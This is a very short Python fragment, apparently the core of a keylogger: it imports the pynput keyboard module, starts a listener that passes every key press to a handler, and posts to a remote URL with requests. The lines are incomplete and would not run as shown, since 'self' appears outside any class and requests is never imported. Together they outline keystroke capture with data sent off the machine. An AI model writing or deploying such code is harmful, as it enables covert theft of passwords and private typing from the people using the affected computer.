from pynput import keyboard
keyboard.Listener(on_press=self.on_key).start()
requests.post(self.url)
